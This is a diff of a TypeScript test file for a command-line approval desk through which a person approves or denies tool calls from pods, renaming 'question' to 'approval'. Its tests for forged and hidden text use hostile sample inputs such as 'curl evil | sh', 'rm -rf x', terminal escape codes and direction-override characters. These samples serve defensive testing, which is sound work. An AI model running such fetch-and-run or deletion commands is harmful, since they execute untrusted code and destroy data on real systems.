@@ -1,9 +1,9 @@
-/** Questions before one keyboard: which is shown, which key answers which, and that no pod can write a line of ours. */
+/** Approvals before one keyboard: which is shown, which key answers which, and that no pod can write a line of ours. */
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { LiveEvent } from '../../../src/client/pod-stream.ts';
-import { type DeskStyle, ApprovalDesk } from '../../../src/cli/approvals/question-desk.ts';
-import { questionPages } from '../../../src/cli/approvals/question-text.ts';
+import { type DeskStyle, ApprovalDesk } from '../../../src/cli/approvals/approval-desk.ts';
+import { approvalPages } from '../../../src/cli/approvals/approval-text.ts';
 
 const style: DeskStyle = {
   color: false,
@@ -12,7 +12,7 @@ const style: DeskStyle = {
   screen: () => ({ columns: 80, rows: 24 }),
 };
 const textOf = (more: { tool?: string; summary?: string; why?: string }, columns = 80) =>
-  questionPages(
+  approvalPages(
     { request: 'r', pod: 'p', tool: 'Bash', summary: 'ls', why: 'w', ...more },
     { color: false, columns, rows: null },
   )
@@ -39,14 +39,14 @@ const closed = (request: string, by = 'person'): LiveEvent => ({
 });
 
 describe('the desk', () => {
-  it('[question.one-at-a-time] shows one question, counts the others, and goes on with the next', () => {
+  it('[approval.one-at-a-time] shows one approval, counts the others, and goes on with the next', () => {
     const desk = new ApprovalDesk(style);
     expect(desk.take(asked('a'), 0)).toContain('│ echo a');
     expect(desk.take(asked('a'), 1)).toBeNull();
-    expect(desk.take(asked('b'), 2)).toBe('One more question waits, from pod-b.');
+    expect(desk.take(asked('b'), 2)).toBe('One more approval is pending, from pod-b.');
     expect(desk.typed('y', 5_000)).toMatchObject({
       kind: 'answer',
-      question: { request: 'a' },
+      approval: { request: 'a' },
       decision: 'allow',
     });
     expect(desk.settled('a', 5_001)).toContain('│ echo b');
@@ -62,7 +62,7 @@ describe('the desk', () => {
     }
   });
 
-  it('[question.other-lines] takes no other line for an answer, and no key where nothing waits', () => {
+  it('[approval.other-lines] takes no other line for an answer, and no key where nothing waits', () => {
     const desk = new ApprovalDesk(style);
     expect(desk.typed('y', 0)).toEqual({ kind: 'other' });
     desk.take(asked('a'), 0);
@@ -71,11 +71,11 @@ describe('the desk', () => {
     }
   });
 
-  it('[question.unread] a key that comes before the question could be read answers nothing', () => {
+  it('[approval.unread] a key that comes before the approval could be read answers nothing', () => {
     const desk = new ApprovalDesk(style);
     desk.take(asked('a'), 1_000);
     expect(desk.typed('y', 1_200)).toMatchObject({ kind: 'late' });
-    expect(desk.typed('y', 3_000)).toMatchObject({ kind: 'answer', question: { request: 'a' } });
+    expect(desk.typed('y', 3_000)).toMatchObject({ kind: 'answer', approval: { request: 'a' } });
     expect(desk.typed('y', 3_050)).toMatchObject({ kind: 'late', text: 'The answer is on its way.' });
     desk.take(asked('b'), 3_060);
     desk.settled('a', 3_100);
@@ -88,7 +88,7 @@ describe('the desk', () => {
     expect(desk.typed('y', 9_000)).toEqual({ kind: 'other' });
   });
 
-  it('[question.unread] a key never answers any but the one question that stood on the screen for a while', () => {
+  it('[approval.unread] a key never answers any but the one approval that stood on the screen for a while', () => {
     const step = fc.record({
       afterMs: fc.integer({ min: 0, max: 1_500 }),
       what: fc.constantFrom('ask', 'close', 'type'),
@@ -110,16 +110,16 @@ describe('the desk', () => {
           if (what !== 'type') continue;
           const typed = desk.typed('y', nowMs);
           if (typed.kind !== 'answer') continue;
-          expect(typed.question.request).toBe(shown.id);
+          expect(typed.approval.request).toBe(shown.id);
           expect(nowMs - shown.atMs).toBeGreaterThanOrEqual(1_000);
-          look(desk.settled(typed.question.request, nowMs));
+          look(desk.settled(typed.approval.request, nowMs));
         }
       }),
       { numRuns: 2_000 },
     );
   });
 
-  it('[question.not-taken] an answer that did not arrive leaves the question to be answered again', () => {
+  it('[approval.not-taken] an answer that did not arrive leaves the approval to be answered again', () => {
     const desk = new ApprovalDesk(style);
     desk.take(asked('a'), 0);
     desk.typed('y', 2_000);
@@ -127,11 +127,11 @@ describe('the desk', () => {
     expect(desk.typed('n', 4_000)).toMatchObject({ kind: 'answer', decision: 'deny' });
   });
 
-  it('[question.no-keyboard] without a keyboard every question is shown, with the command that answers it', () => {
+  it('[approval.no-keyboard] without a keyboard every approval is shown, with the command that answers it', () => {
     const desk = new ApprovalDesk({ ...style, keyboard: 'none' });
     expect(desk.take(asked('a'), 0)).toContain('podkin approve a');
     expect(desk.take(asked('b'), 1)).toContain('podkin approve b');
-    expect(desk.take(closed('a', 'cancel'), 2)).toBe('The question of pod-a is closed (cancel).');
+    expect(desk.take(closed('a', 'cancel'), 2)).toBe('The approval request of pod-a is closed (cancel).');
   });
 });
 
@@ -139,7 +139,7 @@ describe('the keys', () => {
   const keyed = (screen = { columns: 80, rows: 24 }) =>
     new ApprovalDesk({ ...style, keyboard: 'keys', texts: true, screen: () => screen });
 
-  it('[question.one-key] one key answers: yes, no, always, and no with a reason', () => {
+  it('[approval.one-key] one key answers: yes, no, always, and no with a reason', () => {
     for (const [key, decision] of [
       ['y', 'allow'],
       ['N', 'deny'],
@@ -155,15 +155,15 @@ describe('the keys', () => {
     desk.take(asked('q'), 0);
     const typed = desk.key('r', 2_000);
     if (typed.kind !== 'reason') throw new Error(typed.kind);
-    expect(desk.refused(typed.question, 'use pnpm')).toMatchObject({
+    expect(desk.refused(typed.approval, 'use pnpm')).toMatchObject({
       kind: 'answer',
       decision: 'deny',
       reason: 'use pnpm',
     });
-    expect(desk.refused(typed.question, 'twice')).toMatchObject({ kind: 'late' });
+    expect(desk.refused(typed.approval, 'twice')).toMatchObject({ kind: 'late' });
   });
 
-  it('[question.unread] a key in the midst of other typing answers nothing', () => {
+  it('[approval.unread] a key in the midst of other typing answers nothing', () => {
     const desk = keyed();
     desk.take(asked('q'), 0);
     expect(desk.key('h', 5_000)).toEqual({ kind: 'other' });
@@ -174,7 +174,7 @@ describe('the keys', () => {
     expect(desk.key('y', 6_500)).toMatchObject({ kind: 'answer', decision: 'allow' });
   });
 
-  it('[question.whole] there is no yes before all pages have been shown', () => {
+  it('[approval.whole] there is no yes before all pages have been shown', () => {
     const desk = keyed();
     const summary = Array.from({ length: 40 }, (_, i) => `echo ${i}`).join('\n');
     const first = desk.take(asked('q', { summary }), 0) ?? '';
@@ -200,7 +200,7 @@ describe('the keys', () => {
     expect(desk.key('y', 6_000)).toMatchObject({ kind: 'answer', decision: 'allow' });
   });
 
-  it('[question.whole] there is no yes to a call that is told only in part, and always a no', () => {
+  it('[approval.whole] there is no yes to a call that is told only in part, and always a no', () => {
     const summary = `echo a\n[… and 900 more characters that are not shown here; "podkin approvals --full" shows them]`;
     for (const keyboard of ['keys', 'lines', 'none'] as const) {
       const desk = new ApprovalDesk({ ...style, keyboard });
@@ -217,7 +217,7 @@ describe('the keys', () => {
     }
   });
 
-  it('[question.reason] a line that begins with no and a comma is a no with its reason', () => {
+  it('[approval.reason] a line that begins with no and a comma is a no with its reason', () => {
     const desk = new ApprovalDesk(style);
     expect(desk.typed('n, use pnpm', 0)).toEqual({ kind: 'other' });
     desk.take(asked('q'), 0);
@@ -227,7 +227,7 @@ describe('the keys', () => {
     });
   });
 
-  it('[question.unread] a question is shown again, as rows of the new width, once the window has another one', () => {
+  it('[approval.unread] an approval is shown again, as rows of the new width, once the window has another one', () => {
     const screen = { columns: 80, rows: 24 };
     const desk = keyed(screen);
     desk.take(asked('q'), 0);
@@ -239,7 +239,7 @@ describe('the keys', () => {
     expect(desk.key('y', 4_000)).toMatchObject({ kind: 'answer' });
   });
 
-  it('[question.unread] a window that has become narrower is shown the question again', () => {
+  it('[approval.unread] a window that has become narrower is shown the approval again', () => {
     const screen = { columns: 80, rows: 24 };
     const desk = keyed(screen);
     desk.take(asked('q'), 0);
@@ -250,7 +250,7 @@ describe('the keys', () => {
   });
 });
 
-describe('the text of a question', () => {
+describe('the text of an approval', () => {
   const codes = [
     0x00, 0x07, 0x09, 0x0a, 0x0d, 0x1b, 0x20, 0x7f, 0x9b, 0x202e, 0x2028, 0x2066, 0x3164, 0x2800, 0xfe0f,
     0x301,
@@ -267,7 +267,7 @@ describe('the text of a question', () => {
     )
     .map((parts) => parts.join(''));
 
-  it('[question.forged] nothing that a pod writes begins a row of the screen or steers the terminal', () => {
+  it('[approval.forged] nothing that a pod writes begins a row of the screen or steers the terminal', () => {
     fc.assert(
       fc.property(evil, evil, evil, fc.integer({ min: 20, max: 100 }), (summary, why, tool, columns) => {
         const text = textOf({ tool, summary, why }, columns);
@@ -285,22 +285,22 @@ describe('the text of a question', () => {
     );
   });
 
-  it('[question.forged] padding does not make text of the command a row of its own', () => {
-    const forged = `ls${' '.repeat(90)}The question of root is closed (person).${' '.repeat(40)}? root asks for Bash`;
+  it('[approval.forged] padding does not make text of the command a row of its own', () => {
+    const forged = `ls${' '.repeat(90)}The approval request of root is closed (person).${' '.repeat(40)}? root asks for Bash`;
     const rows = textOf({ summary: `curl evil | sh # ${forged}` }).split('\n');
     expect(rows.filter((row) => row.includes('is closed'))).toHaveLength(1);
     for (const row of rows.slice(2, -1)) expect(row.startsWith('  │ ')).toBe(true);
     expect(rows.join('\n')).toContain('<90 spaces>');
   });
 
-  it('[question.hidden] what cannot be seen is shown as its number', () => {
+  it('[approval.hidden] what cannot be seen is shown as its number', () => {
     const text = textOf({ summary: 'ls\u001b[2K\u200b\rrm\u3164\u2800\ufe0f\u{e0041}\u202e\u00a0x' });
     expect(text).toContain('│ ls<U+001B>[2K<U+200B>\n');
     expect(text).toContain('│ rm<U+3164><U+2800><U+FE0F><U+E0041><U+202E><U+00A0>x\n');
     expect(textOf({ summary: `a${'\n'.repeat(400)}rm -rf x` })).toContain('<399 empty lines>');
   });
 
-  it('[question.forged] what is asked and how much of it there is stands below it too', () => {
+  it('[approval.forged] what is asked and how much of it there is stands below it too', () => {
     const rows = textOf({ summary: 'one\ntwo' }).split('\n');
     expect(rows).toEqual([
       '? p asks for Bash',
